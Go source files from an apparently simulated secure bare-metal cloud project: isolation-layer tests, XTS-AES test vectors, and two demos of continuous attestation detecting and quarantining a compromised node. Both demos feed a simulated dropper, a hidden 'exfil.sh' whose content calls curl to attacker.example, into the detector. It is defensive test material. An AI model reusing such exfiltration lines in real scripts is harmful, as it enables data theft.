		t.Fatal(err)
	}
	vs, _ := fabric.VLANsOf("port-a")
	if len(vs) != 0 {
		t.Fatal("freed node still attached to VLANs")
	}
	if bmcs[0].on {
		t.Fatal("freed node still powered")
	}
}

func TestPublicNetworks(t *testing.T) {
	s, fabric, _ := newHIL(t, 2)
	if err := s.CreatePublicNetwork("provisioning", true); err != nil {
		t.Fatal(err)
	}
	if err := s.CreatePublicNetwork("provisioning", true); err == nil {
		t.Fatal("duplicate public network accepted")
	}
	fabric.AddPort("bmi-host")
	if err := s.ConnectServicePort("bmi-host", "provisioning"); err != nil {
		t.Fatal(err)
	}
	s.CreateProject("t")
	s.AllocateNode("t", "node-a")
	s.AllocateNode("t", "node-b")
	if err := s.ConnectNode("t", "node-a", "provisioning"); err != nil {
		t.Fatal(err)
	}
	if err := s.ConnectNode("t", "node-b", "provisioning"); err != nil {
		t.Fatal(err)
	}
	if !fabric.Reachable("port-a", "bmi-host") {
		t.Fatal("node cannot reach provisioning service over public network")
	}
	// Private-VLAN semantics: two host members of the isolated public
	// network do not see each other.
	if fabric.Reachable("port-a", "port-b") {
		t.Fatal("nodes reach each other through the isolated service network")
	}
}

func TestNonIsolatedPublicNetwork(t *testing.T) {
	s, fabric, _ := newHIL(t, 2)
	if err := s.CreatePublicNetwork("internet", false); err != nil {
		t.Fatal(err)
	}
	s.CreateProject("t")
	s.AllocateNode("t", "node-a")
	s.AllocateNode("t", "node-b")
	s.ConnectNode("t", "node-a", "internet")
	s.ConnectNode("t", "node-b", "internet")
	if !fabric.Reachable("port-a", "port-b") {
		t.Fatal("members of a non-isolated public network should reach each other")
	}
}

func TestMetadataSourceOfTruth(t *testing.T) {
	s, _, _ := newHIL(t, 1)
	if err := s.SetNodeMetadata("node-a", "tpm_ek", "04deadbeef"); err != nil {
		t.Fatal(err)
	}
	md, err := s.NodeMetadata("node-a")
	if err != nil {
		t.Fatal(err)
	}
	if md["tpm_ek"] != "04deadbeef" || md["gen"] != "m620" {
		t.Fatalf("metadata = %v", md)
	}
	// Returned map is a copy: mutating it does not poison the source.
	md["tpm_ek"] = "spoofed"
	md2, _ := s.NodeMetadata("node-a")
	if md2["tpm_ek"] != "04deadbeef" {
		t.Fatal("metadata mutated through returned copy")
	}
	if err := s.SetNodeMetadata("ghost", "k", "v"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("metadata on unknown node: %v", err)
	}
}

func TestBMCProxy(t *testing.T) {
	s, _, bmcs := newHIL(t, 1)
	s.CreateProject("t")
	s.AllocateNode("t", "node-a")
	if err := s.PowerOn("t", "node-a"); err != nil {
		t.Fatal(err)
	}
	if !bmcs[0].on {
		t.Fatal("PowerOn not forwarded")
	}
	s.PowerCycle("t", "node-a")
	if bmcs[0].cycles != 1 {
		t.Fatal("PowerCycle not forwarded")
	}
	s.PowerOff("t", "node-a")
	if bmcs[0].on {
		t.Fatal("PowerOff not forwarded")
	}
}

func TestProjectDeletion(t *testing.T) {
	s, _, _ := newHIL(t, 1)
	s.CreateProject("t")
	s.AllocateNode("t", "node-a")
	if err := s.DeleteProject("t"); !errors.Is(err, ErrInUse) {
		t.Fatalf("deleting project with nodes: %v", err)
	}
	s.FreeNode("t", "node-a")
	if err := s.DeleteProject("t"); err != nil {
		t.Fatal(err)
	}
	if err := s.CreateProject("t"); err != nil {
		t.Fatal("name not reusable after delete")
	}
}

func TestDeleteNetworkInUse(t *testing.T) {
	s, _, _ := newHIL(t, 1)
	s.CreateProject("t")
	s.AllocateNode("t", "node-a")
	s.CreateNetwork("t", "n")
	s.ConnectNode("t", "node-a", "n")
	if err := s.DeleteNetwork("t", "n"); !errors.Is(err, ErrInUse) {
		t.Fatalf("deleting network with members: %v", err)
	}
	s.DetachNode("t", "node-a", "n")
	if err := s.DeleteNetwork("t", "n"); err != nil {
		t.Fatal(err)
	}
}

// Property: under arbitrary allocate/free interleavings, every node is
// owned by at most one project and the free list is exactly the
// unowned set.
func TestQuickOwnershipInvariant(t *testing.T) {
	s, _, _ := newHIL(t, 6)
	projects := []string{"p0", "p1", "p2"}
	for _, p := range projects {
		s.CreateProject(p)
	}
	nodes := []string{"node-a", "node-b", "node-c", "node-d", "node-e", "node-f"}
	f := func(ops []uint16) bool {
		for _, op := range ops {
			p := projects[int(op)%len(projects)]
			n := nodes[int(op>>4)%len(nodes)]
			if op&0x8000 == 0 {
				_ = s.AllocateNode(p, n)
			} else {
				_ = s.FreeNode(p, n)
			}
		}
		owned := make(map[string]string)
		for _, p := range projects {
			ns, err := s.ProjectNodes(p)
			if err != nil {
				return false
			}
			for _, n := range ns {
				if prev, dup := owned[n]; dup {
					t.Logf("node %s in both %s and %s", n, prev, p)
					return false
				}
				owned[n] = p
				if got, _ := s.NodeOwner(n); got != p {
					return false
				}
			}
		}
		for _, free := range s.FreeNodes() {
			if _, bad := owned[free]; bad {
				return false
			}
		}
		return len(owned)+len(s.FreeNodes()) == len(nodes)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

func TestHTTPAPI(t *testing.T) {
	s, fabric, bmcs := newHIL(t, 2)
	srv := httptest.NewServer(NewHandler(s))
	defer srv.Close()
	c := NewClient(srv.URL)

	if err := c.CreateProject("web"); err != nil {
		t.Fatal(err)
	}
	free, err := c.FreeNodes()
	if err != nil || len(free) != 2 {
		t.Fatalf("FreeNodes = %v, %v", free, err)
	}
	node, err := c.AllocateNode("web", "")
	if err != nil {
		t.Fatal(err)
	}
	if err := c.CreateNetwork("web", "enclave"); err != nil {
		t.Fatal(err)
	}
	if err := c.ConnectNode("web", node, "enclave"); err != nil {
		t.Fatal(err)
	}
	port, _ := s.NodePort(node)
	vs, _ := fabric.VLANsOf(port)
	if len(vs) != 1 {
		t.Fatalf("node on %d VLANs, want 1", len(vs))
	}
	if err := c.Power("web", node, "cycle"); err != nil {
		t.Fatal(err)
	}
	idx := int(node[len(node)-1] - 'a')
	if bmcs[idx].cycles != 1 {
		t.Fatal("power cycle not forwarded over HTTP")
	}
	md, err := c.NodeMetadata(node)
	if err != nil || md["gen"] != "m620" {
		t.Fatalf("metadata over HTTP = %v, %v", md, err)
	}
	// Error mapping.
	if err := c.CreateProject("web"); err == nil {
		t.Fatal("duplicate project over HTTP accepted")
	}
	if _, err := c.NodeMetadata("ghost"); err == nil {
		t.Fatal("unknown node over HTTP accepted")
	}
	if err := c.Power("web", node, "explode"); err == nil {
		t.Fatal("bad power op accepted")
	}
	if err := c.DetachNode("web", node, "enclave"); err != nil {
		t.Fatal(err)
	}
	if err := c.DeleteNetwork("web", "enclave"); err != nil {
		t.Fatal(err)
	}
	if err := c.FreeNode("web", node); err != nil {
		t.Fatal(err)
	}
}
