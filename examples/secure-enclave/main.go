// Secure enclave: the paper's Charlie (§4.3) — a security-sensitive
// tenant who trusts the provider only for availability. Tenant-deployed
// attestation, LUKS disk encryption, IPsec between nodes, continuous
// runtime attestation, and the §7.4 kill chain: an unauthorized binary
// executes, the verifier detects it, and the node is cryptographically
// banned from the enclave in well under a second.
package main

import (
	"bytes"
	"context"
	"fmt"
	"log"
	"time"

	"bolted"
	"bolted/internal/ima"
	"bolted/internal/minfs"
)

func main() {
	cloud, err := bolted.NewCloud(bolted.DefaultConfig())
	if err != nil {
		log.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("hardened", bolted.OSImageSpec{
		KernelID: "hardened-4.17.9",
		Kernel:   []byte("vmlinuz-hardened"),
		Initrd:   []byte("initramfs-hardened"),
		Cmdline:  "root=iscsi ima_policy=tcb",
	}); err != nil {
		log.Fatal(err)
	}

	enclave, err := bolted.NewEnclave(cloud, "charlie", bolted.ProfileCharlie)
	if err != nil {
		log.Fatal(err)
	}
	// Charlie generates his own runtime whitelist: only these binaries
	// may ever run in the enclave.
	enclave.IMAWhitelist().AllowContent("/usr/bin/model-trainer", []byte("trainer-v2 binary"))
	enclave.IMAWhitelist().AllowContent("/etc/trainer.conf", []byte("epochs=100"))

	// Both nodes go through airlock → attest → provision concurrently;
	// a node failing any phase would land in the rejected pool without
	// taking its sibling down.
	res, err := enclave.AcquireNodes(context.Background(), "hardened", 2)
	if err != nil {
		log.Fatal(err)
	}
	if len(res.Nodes) != 2 {
		log.Fatalf("only %d of 2 nodes allocated: %v", len(res.Nodes), res.Failed)
	}
	n1, n2 := res.Nodes[0], res.Nodes[1]
	fmt.Printf("enclave up: %s, %s (attested, LUKS, IPsec) in %v\n",
		n1.Name, n2.Name, res.Timings.Wall.Round(time.Millisecond))
	for _, pt := range res.Timings.Phases {
		fmt.Printf("  phase %-10s slowest node %v\n", pt.Phase, pt.Max.Round(time.Microsecond))
	}

	// The data volume is LUKS-encrypted with a key delivered only after
	// attestation: the tenant runs a real filesystem on it, and the
	// provider's storage never sees plaintext.
	fs, err := minfs.Format(n1.Disk, 64)
	if err != nil {
		log.Fatal(err)
	}
	secret := bytes.Repeat([]byte("PATIENT-RECORDS."), 1024)
	if err := fs.Write("records/2026-q2.db", secret); err != nil {
		log.Fatal(err)
	}
	back, err := fs.Read("records/2026-q2.db")
	if err != nil || !bytes.Equal(back, secret) {
		log.Fatal("filesystem round-trip failed")
	}
	leaked := false
	for _, obj := range cloud.Ceph.ListPrefix("img-charlie") {
		if data, ok := cloud.Ceph.Get(obj); ok && bytes.Contains(data, []byte("PATIENT-RECORDS")) {
			leaked = true
		}
	}
	fmt.Printf("files on encrypted volume: %v; plaintext visible to provider: %v\n", fs.List(), leaked)

	// Enclave traffic runs over pairwise ESP tunnels.
	if _, err := enclave.Send(n1.Name, n2.Name, []byte("gradient shard 17")); err != nil {
		log.Fatal(err)
	}
	fmt.Println("encrypted node-to-node traffic: ok")

	// Continuous attestation at a 100 ms cadence.
	n1.IMA.Measure("/usr/bin/model-trainer", []byte("trainer-v2 binary"), ima.HookExec, 0)
	n1.IMA.Measure("/etc/trainer.conf", []byte("epochs=100"), ima.HookRead, 0)
	if err := enclave.StartContinuousAttestation(n1.Name, 100*time.Millisecond); err != nil {
		log.Fatal(err)
	}
	fmt.Println("continuous attestation running; injecting compromise on", n1.Name)

	// An attacker drops and runs an unauthorized script on n1.
	injected := time.Now()
	n1.IMA.Measure("/tmp/.hidden/exfil.sh", []byte("#!/bin/sh\ncurl attacker.example"), ima.HookExec, 0)

	// Within a few check intervals, the verifier revokes n1's keys and
	// every peer drops its IPsec SAs: the node is banned.
	for {
		if _, err := enclave.Send(n1.Name, n2.Name, []byte("probe")); err != nil {
			fmt.Printf("node banned from enclave %v after injection\n",
				time.Since(injected).Round(time.Millisecond))
			break
		}
		time.Sleep(5 * time.Millisecond)
	}
	status, _ := enclave.Verifier().Status(n1.Name)
	fmt.Printf("verifier status for %s: %s\n", n1.Name, status)
	fmt.Printf("last verifier error: %v\n", enclave.Verifier().LastError(n1.Name))
}
