package xts

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"encoding/hex"
	"fmt"
	"math/rand"
	"testing"
	"testing/quick"

	"bolted/internal/softaes"
)

func mustCipher(t testing.TB, key []byte) *Cipher {
	t.Helper()
	c, err := NewCipher(aes.NewCipher, key)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// IEEE P1619 XTS-AES-128 test vectors 1-3 (32-byte data units).
func TestIEEE1619Vectors(t *testing.T) {
	cases := []struct {
		name       string
		key1, key2 string
		sector     uint64
		ptx, ctx   string
	}{
		{
			name:   "vector1",
			key1:   "00000000000000000000000000000000",
			key2:   "00000000000000000000000000000000",
			sector: 0,
			ptx:    "0000000000000000000000000000000000000000000000000000000000000000",
			ctx:    "917cf69ebd68b2ec9b9fe9a3eadda692cd43d2f59598ed858c02c2652fbf922e",
		},
		{
			name:   "vector2",
			key1:   "11111111111111111111111111111111",
			key2:   "22222222222222222222222222222222",
			sector: 0x3333333333,
			ptx:    "4444444444444444444444444444444444444444444444444444444444444444",
			ctx:    "c454185e6a16936e39334038acef838bfb186fff7480adc4289382ecd6d394f0",
		},
		{
			name:   "vector3",
			key1:   "fffefdfcfbfaf9f8f7f6f5f4f3f2f1f0",
			key2:   "22222222222222222222222222222222",
			sector: 0x3333333333,
			ptx:    "4444444444444444444444444444444444444444444444444444444444444444",
			ctx:    "af85336b597afc1a900b2eb21ec949d292df4c047e0b21532186a5971a227a89",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			k1, _ := hex.DecodeString(tc.key1)
			k2, _ := hex.DecodeString(tc.key2)
			pt, _ := hex.DecodeString(tc.ptx)
			want, _ := hex.DecodeString(tc.ctx)
			c := mustCipher(t, append(k1, k2...))
			got := make([]byte, len(pt))
			if err := c.EncryptSector(got, pt, tc.sector); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got, want) {
				t.Fatalf("encrypt = %x\nwant      %x", got, want)
			}
			back := make([]byte, len(pt))
			if err := c.DecryptSector(back, got, tc.sector); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(back, pt) {
				t.Fatalf("decrypt round-trip = %x, want %x", back, pt)
			}
		})
	}
}

// IEEE P1619 vectors 4 (XTS-AES-128) and 10 (XTS-AES-256): full
// 512-byte data units, exercising the whole-sector tweak progression
// the 32-byte vectors above cannot. Both are also run through the
// batched EncryptSectors path.
func TestIEEE1619FullSectorVectors(t *testing.T) {
	seqPT := make([]byte, 512)
	for i := range seqPT {
		seqPT[i] = byte(i)
	}
	cases := []struct {
		name       string
		key1, key2 string
		sector     uint64
		ctx        string
	}{
		{
			name:   "vector4-xts-aes-128",
			key1:   "27182818284590452353602874713526",
			key2:   "31415926535897932384626433832795",
			sector: 0,
			ctx: "27a7479befa1d476489f308cd4cfa6e2a96e4bbe3208ff25287dd3819616e89c" +
				"c78cf7f5e543445f8333d8fa7f56000005279fa5d8b5e4ad40e736ddb4d35412" +
				"328063fd2aab53e5ea1e0a9f332500a5df9487d07a5c92cc512c8866c7e860ce" +
				"93fdf166a24912b422976146ae20ce846bb7dc9ba94a767aaef20c0d61ad0265" +
				"5ea92dc4c4e41a8952c651d33174be51a10c421110e6d81588ede82103a252d8" +
				"a750e8768defffed9122810aaeb99f9172af82b604dc4b8e51bcb08235a6f434" +
				"1332e4ca60482a4ba1a03b3e65008fc5da76b70bf1690db4eae29c5f1badd03c" +
				"5ccf2a55d705ddcd86d449511ceb7ec30bf12b1fa35b913f9f747a8afd1b130e" +
				"94bff94effd01a91735ca1726acd0b197c4e5b03393697e126826fb6bbde8ecc" +
				"1e08298516e2c9ed03ff3c1b7860f6de76d4cecd94c8119855ef5297ca67e9f3" +
				"e7ff72b1e99785ca0a7e7720c5b36dc6d72cac9574c8cbbc2f801e23e56fd344" +
				"b07f22154beba0f08ce8891e643ed995c94d9a69c9f1b5f499027a78572aeebd" +
				"74d20cc39881c213ee770b1010e4bea718846977ae119f7a023ab58cca0ad752" +
				"afe656bb3c17256a9f6e9bf19fdd5a38fc82bbe872c5539edb609ef4f79c203e" +
				"bb140f2e583cb2ad15b4aa5b655016a8449277dbd477ef2c8d6c017db738b18d" +
				"eb4a427d1923ce3ff262735779a418f20a282df920147beabe421ee5319d0568",
		},
		{
			name:   "vector10-xts-aes-256",
			key1:   "2718281828459045235360287471352662497757247093699959574966967627",
			key2:   "3141592653589793238462643383279502884197169399375105820974944592",
			sector: 0xff,
			ctx: "1c3b3a102f770386e4836c99e370cf9bea00803f5e482357a4ae12d414a3e63b" +
				"5d31e276f8fe4a8d66b317f9ac683f44680a86ac35adfc3345befecb4bb188fd" +
				"5776926c49a3095eb108fd1098baec70aaa66999a72a82f27d848b21d4a741b0" +
				"c5cd4d5fff9dac89aeba122961d03a757123e9870f8acf1000020887891429ca" +
				"2a3e7a7d7df7b10355165c8b9a6d0a7de8b062c4500dc4cd120c0f7418dae3d0" +
				"b5781c34803fa75421c790dfe1de1834f280d7667b327f6c8cd7557e12ac3a0f" +
				"93ec05c52e0493ef31a12d3d9260f79a289d6a379bc70c50841473d1a8cc81ec" +
				"583e9645e07b8d9670655ba5bbcfecc6dc3966380ad8fecb17b6ba02469a020a" +
				"84e18e8f84252070c13e9f1f289be54fbc481457778f616015e1327a02b140f1" +
				"505eb309326d68378f8374595c849d84f4c333ec4423885143cb47bd71c5edae" +
				"9be69a2ffeceb1bec9de244fbe15992b11b77c040f12bd8f6a975a44a0f90c29" +
				"a9abc3d4d893927284c58754cce294529f8614dcd2aba991925fedc4ae74ffac" +
				"6e333b93eb4aff0479da9a410e4450e0dd7ae4c6e2910900575da401fc07059f" +
				"645e8b7e9bfdef33943054ff84011493c27b3429eaedb4ed5376441a77ed4385" +
				"1ad77f16f541dfd269d50d6a5f14fb0aab1cbb4c1550be97f7ab4066193c4caa" +
				"773dad38014bd2092fa755c824bb5e54c4f36ffda9fcea70b9c6e693e148c151",
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			k1, _ := hex.DecodeString(tc.key1)
			k2, _ := hex.DecodeString(tc.key2)
			want, _ := hex.DecodeString(tc.ctx)
			c := mustCipher(t, append(k1, k2...))
			got := make([]byte, len(seqPT))
			if err := c.EncryptSector(got, seqPT, tc.sector); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got, want) {
				t.Fatalf("encrypt = %x…\nwant      %x…", got[:32], want[:32])
			}
			// The batched path must produce the identical data unit.
			batched := make([]byte, len(seqPT))
			if err := c.EncryptSectors(batched, seqPT, len(seqPT), tc.sector); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(batched, want) {
				t.Fatalf("EncryptSectors = %x…, want %x…", batched[:32], want[:32])
			}
			back := make([]byte, len(seqPT))
			if err := c.DecryptSectors(back, want, len(seqPT), tc.sector); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(back, seqPT) {
				t.Fatal("DecryptSectors round-trip mismatch")
			}
		})
	}
}

func TestKeyValidation(t *testing.T) {
	for _, n := range []int{0, 16, 31, 33, 48, 65} {
		if _, err := NewCipher(aes.NewCipher, make([]byte, n)); err == nil {
			t.Errorf("key size %d accepted, want error", n)
		}
	}
	for _, n := range []int{32, 64} {
		if _, err := NewCipher(aes.NewCipher, make([]byte, n)); err != nil {
			t.Errorf("key size %d rejected: %v", n, err)
		}
	}
}

func TestLengthValidation(t *testing.T) {
	c := mustCipher(t, make([]byte, 64))
	for _, n := range []int{0, 1, 15, 17, 511} {
		if err := c.EncryptSector(make([]byte, n), make([]byte, n), 0); err == nil {
			t.Errorf("sector length %d accepted, want error", n)
		}
	}
	if err := c.EncryptSector(make([]byte, 16), make([]byte, 32), 0); err == nil {
		t.Error("mismatched dst/src lengths accepted")
	}
}

func TestInPlace(t *testing.T) {
	c := mustCipher(t, make([]byte, 64))
	buf := make([]byte, 512)
	for i := range buf {
		buf[i] = byte(i)
	}
	orig := append([]byte(nil), buf...)
	if err := c.EncryptSector(buf, buf, 7); err != nil {
		t.Fatal(err)
	}
	if bytes.Equal(buf, orig) {
		t.Fatal("in-place encrypt left plaintext unchanged")
	}
	if err := c.DecryptSector(buf, buf, 7); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf, orig) {
		t.Fatal("in-place round-trip mismatch")
	}
}

// Property: round-trip for random keys, sectors, and sizes.
func TestQuickRoundTrip(t *testing.T) {
	f := func(key [64]byte, sector uint64, seed int64) bool {
		c, err := NewCipher(aes.NewCipher, key[:])
		if err != nil {
			return false
		}
		rng := rand.New(rand.NewSource(seed))
		n := (1 + rng.Intn(64)) * 16
		pt := make([]byte, n)
		rng.Read(pt)
		ct := make([]byte, n)
		if err := c.EncryptSector(ct, pt, sector); err != nil {
			return false
		}
		back := make([]byte, n)
		if err := c.DecryptSector(back, ct, sector); err != nil {
			return false
		}
		return bytes.Equal(back, pt) && !bytes.Equal(ct, pt)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

// Property: the same plaintext at different sector numbers encrypts to
// different ciphertext (tweak actually varies with position).
func TestQuickSectorTweakVaries(t *testing.T) {
	c := mustCipher(t, bytes.Repeat([]byte{9}, 64))
	f := func(sa, sb uint64, block [16]byte) bool {
		if sa == sb {
			return true
		}
		ca, cb := make([]byte, 16), make([]byte, 16)
		if err := c.EncryptSector(ca, block[:], sa); err != nil {
			return false
		}
		if err := c.EncryptSector(cb, block[:], sb); err != nil {
			return false
		}
		return !bytes.Equal(ca, cb)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// Property: equal blocks within one sector encrypt differently
// (inter-block tweak progression).
func TestIntraSectorBlocksDiffer(t *testing.T) {
	c := mustCipher(t, bytes.Repeat([]byte{5}, 64))
	pt := bytes.Repeat([]byte{0xAB}, 512)
	ct := make([]byte, 512)
	if err := c.EncryptSector(ct, pt, 3); err != nil {
		t.Fatal(err)
	}
	for i := 16; i < 512; i += 16 {
		if bytes.Equal(ct[:16], ct[i:i+16]) {
			t.Fatalf("blocks 0 and %d encrypt identically (ECB-like leak)", i/16)
		}
	}
}

// softBlock adapts softaes.New to the mkBlock signature, exercising the
// BlockProcessor batch path inside processSectors.
func softBlock(key []byte) (cipher.Block, error) { return softaes.New(key) }

// TestSectorsMatchesPerSector pins the batched span API to the
// per-sector reference for both backends (crypto/aes takes the
// one-block-at-a-time loop, softaes the BlockProcessor fast path),
// across sector sizes, span lengths and in-place operation.
func TestSectorsMatchesPerSector(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	key := make([]byte, 64)
	rng.Read(key)
	backends := []struct {
		name string
		mk   func([]byte) (cipher.Block, error)
	}{{"aes", aes.NewCipher}, {"softaes", softBlock}}
	for _, be := range backends {
		c, err := NewCipher(be.mk, key)
		if err != nil {
			t.Fatal(err)
		}
		for _, sectorSize := range []int{16, 512, 4096, 8192} {
			for _, sectors := range []int{1, 2, 7} {
				first := rng.Uint64()
				src := make([]byte, sectorSize*sectors)
				rng.Read(src)
				want := make([]byte, len(src))
				for i := 0; i < sectors; i++ {
					off := i * sectorSize
					if err := c.EncryptSector(want[off:off+sectorSize], src[off:off+sectorSize], first+uint64(i)); err != nil {
						t.Fatal(err)
					}
				}
				got := make([]byte, len(src))
				if err := c.EncryptSectors(got, src, sectorSize, first); err != nil {
					t.Fatal(err)
				}
				if !bytes.Equal(got, want) {
					t.Fatalf("%s: EncryptSectors(%d×%d) diverges from per-sector path", be.name, sectors, sectorSize)
				}
				// Decrypt in place over a copy.
				inplace := append([]byte(nil), got...)
				if err := c.DecryptSectors(inplace, inplace, sectorSize, first); err != nil {
					t.Fatal(err)
				}
				if !bytes.Equal(inplace, src) {
					t.Fatalf("%s: in-place DecryptSectors round-trip mismatch", be.name)
				}
			}
		}
	}
}

func TestSectorsValidation(t *testing.T) {
	c := mustCipher(t, make([]byte, 64))
	buf := make([]byte, 1024)
	if err := c.EncryptSectors(buf, buf, 0, 0); err == nil {
		t.Error("zero sector size accepted")
	}
	if err := c.EncryptSectors(buf, buf, 24, 0); err == nil {
		t.Error("non-16-multiple sector size accepted")
	}
	if err := c.EncryptSectors(buf[:768], buf[:768], 512, 0); err == nil {
		t.Error("span not a sector multiple accepted")
	}
	if err := c.EncryptSectors(buf[:512], buf, 512, 0); err == nil {
		t.Error("dst/src length mismatch accepted")
	}
	if err := c.EncryptSectors(nil, nil, 512, 0); err == nil {
		t.Error("empty span accepted")
	}
}

func BenchmarkEncryptSectors(b *testing.B) {
	for _, be := range []struct {
		name string
		mk   func([]byte) (cipher.Block, error)
	}{{"aes", aes.NewCipher}, {"softaes", softBlock}} {
		for _, sectorSize := range []int{512, 4096} {
			b.Run(fmt.Sprintf("%s/%dB", be.name, sectorSize), func(b *testing.B) {
				c, err := NewCipher(be.mk, make([]byte, 64))
				if err != nil {
					b.Fatal(err)
				}
				buf := make([]byte, 64<<10)
				b.SetBytes(int64(len(buf)))
				b.ResetTimer()
				for i := 0; i < b.N; i++ {
					if err := c.EncryptSectors(buf, buf, sectorSize, uint64(i)); err != nil {
						b.Fatal(err)
					}
				}
			})
		}
	}
}

func BenchmarkEncryptSector4K(b *testing.B) {
	c := mustCipher(b, make([]byte, 64))
	buf := make([]byte, 4096)
	b.SetBytes(4096)
	for i := 0; i < b.N; i++ {
		_ = c.EncryptSector(buf, buf, uint64(i))
	}
}
