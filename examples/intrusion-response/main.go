// Intrusion response: the §7.4 kill chain as an automated subsystem.
// A security-sensitive tenant runs a long-lived enclave under active
// attack: mid-workload, an unauthorized binary executes on one member.
// The runtime attestation guard — enabled with one /v1 call — detects
// the IMA whitelist violation, quarantines the node (SAs revoked, BMI
// export destroyed, HIL port detached, parked in the provider's
// rejected pool), rotates the enclave-wide IPsec PSK on the survivors,
// and acquires an attested replacement so the enclave heals back to
// its target size. Everything after the injection is observed purely
// through the /v1 API, the way a real remote tenant would.
package main

import (
	"context"
	"fmt"
	"log"
	"net/http/httptest"
	"time"

	"bolted"
	"bolted/internal/ima"
)

func main() {
	// Provider side: a cloud and its full service plane, exactly what
	// `boltedd -nodes 8` serves. The manager is held so this demo can
	// also play the attacker (reaching into a node's IMA collector —
	// something no API offers a real tenant).
	cfg := bolted.DefaultConfig()
	cfg.Nodes = 8
	cloud, err := bolted.NewCloud(cfg)
	if err != nil {
		log.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("hardened", bolted.OSImageSpec{
		KernelID: "hardened-4.17.9",
		Kernel:   []byte("vmlinuz-hardened"),
		Initrd:   []byte("initramfs-hardened"),
		Cmdline:  "root=iscsi ima_policy=tcb",
	}); err != nil {
		log.Fatal(err)
	}
	mgr := bolted.NewManager(cloud)
	handler, err := bolted.NewServerHandlerWithManager(cloud, mgr)
	if err != nil {
		log.Fatal(err)
	}
	srv := httptest.NewServer(handler)
	defer srv.Close()

	// Tenant side: the /v1 client. Charlie trusts the provider only
	// for availability — tenant verifier, LUKS, IPsec, continuous
	// attestation.
	ctx := context.Background()
	cli := bolted.NewClient(srv.URL)
	if _, err := cli.CreateEnclave(ctx, "charlie", "charlie"); err != nil {
		log.Fatal(err)
	}
	// The runtime whitelist is tenant-authored and ships inside the
	// attested payloads; in process it is populated directly.
	enclave, err := mgr.Enclave("charlie")
	if err != nil {
		log.Fatal(err)
	}
	enclave.IMAWhitelist().AllowContent("/usr/bin/model-trainer", []byte("trainer-v2 binary"))

	op, err := cli.Acquire(ctx, "charlie", "hardened", 3)
	if err != nil {
		log.Fatal(err)
	}
	done, err := cli.WaitOperation(ctx, op.ID)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("enclave up: %v (attested, LUKS, IPsec) in %v\n",
		done.Result.Nodes, done.Result.Wall.Round(time.Millisecond))

	// One /v1 call arms the guard: 25 ms IMA rounds over every member,
	// self-healing replacements from the same attested image.
	g, err := cli.EnableGuard(ctx, "charlie", bolted.GuardPolicyInfo{
		Interval: 25 * time.Millisecond,
		SelfHeal: true,
		Image:    "hardened",
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("guard enabled: interval=%v max-quotes=%d self-heal via %q\n",
		g.Policy.Interval, g.Policy.MaxConcurrent, g.Policy.Image)

	// The workload runs; each member measures its sanctioned binary.
	for _, n := range enclave.Nodes() {
		n.IMA.Measure("/usr/bin/model-trainer", []byte("trainer-v2 binary"), ima.HookExec, 0)
	}

	// Follow the incident feed live in the background, as a tenant SOC
	// dashboard would.
	streamCtx, stopStream := context.WithCancel(ctx)
	defer stopStream()
	go func() {
		_ = cli.StreamIncidents(streamCtx, 0, func(inc bolted.IncidentInfo) error {
			step := "opened"
			if n := len(inc.Steps); n > 0 {
				step = inc.Steps[n-1].Name
			}
			fmt.Printf("  incident %s [%s] node %s: %s\n", inc.ID, inc.State, inc.Node, step)
			return nil
		})
	}()

	// The attack: a dropper executes on the first member mid-workload.
	victim := enclave.Nodes()[0]
	fmt.Printf("injecting unauthorized binary on %s\n", victim.Name)
	injected := time.Now()
	victim.IMA.Measure("/tmp/.hidden/exfil.sh", []byte("#!/bin/sh\ncurl attacker.example"), ima.HookExec, 0)

	// Observe the response purely over /v1: wait for the incident to
	// reach a terminal state.
	var final *bolted.IncidentInfo
	for final == nil {
		incs, err := cli.ListIncidents(ctx, "charlie")
		if err != nil {
			log.Fatal(err)
		}
		for _, inc := range incs {
			if inc.Terminal() {
				final = inc
			}
		}
		time.Sleep(10 * time.Millisecond)
	}
	fmt.Printf("incident %s %s after %v\n", final.ID, final.State,
		time.Since(injected).Round(time.Millisecond))
	for _, s := range final.Steps {
		fmt.Printf("  %-16s %s%s\n", s.Name, s.Detail, s.Error)
	}

	// The enclave resource shows the quarantine and the replacement.
	info, err := cli.GetEnclave(ctx, "charlie")
	if err != nil {
		log.Fatal(err)
	}
	allocated := 0
	for node, st := range info.Nodes {
		fmt.Printf("  %s\t%s\n", node, st)
		if st == string(bolted.StateAllocated) {
			allocated++
		}
	}
	fmt.Printf("members allocated after self-heal: %d (victim %s is %s)\n",
		allocated, victim.Name, info.Nodes[victim.Name])

	// And the journal records the whole kill chain, queryable forever.
	fmt.Println("kill chain from the enclave journal:")
	_ = cli.EnclaveEvents(ctx, "charlie", 0, false, func(ev bolted.EventInfo) error {
		switch ev.Kind {
		case string(bolted.EventRevoked), string(bolted.EventQuarantined),
			string(bolted.EventRekeyed), string(bolted.EventHealed):
			fmt.Printf("  %-12s %s %s\n", ev.Kind, ev.Node, ev.Detail)
		}
		return nil
	})
}
