package core

import (
	"context"
	"testing"
	"time"
)

// TestOperationTraceMixedWarmColdParenting: an 8-node batch that drains
// a 4-deep warm pool and cold-boots the rest yields one trace — a
// single root "acquire" span with every node×phase span parented under
// it, warm-path phases on the pool hits and the full cold chain on the
// misses.
func TestOperationTraceMixedWarmColdParenting(t *testing.T) {
	cloud := testCloud(t, 10, FirmwareLinuxBoot)
	m := NewManager(cloud)
